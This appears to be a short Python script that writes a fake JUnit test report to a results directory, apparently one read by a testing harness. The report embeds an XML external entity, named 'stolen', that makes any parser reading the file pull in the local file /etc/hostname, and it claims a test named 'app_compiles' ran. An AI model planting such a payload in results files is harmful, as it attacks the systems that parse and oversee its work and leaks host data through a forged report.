"""A report that wants its reader to open a file."""

from pathlib import Path

Path("/autoclave/results/junit.xml").write_text(
    '<!DOCTYPE testsuite [<!ENTITY stolen SYSTEM "file:///etc/hostname">]>'
    '<testsuite name="check" tests="1"><testcase classname="check" name="app_compiles">'
    "<system-out>&stolen;</system-out></testcase></testsuite>"
)
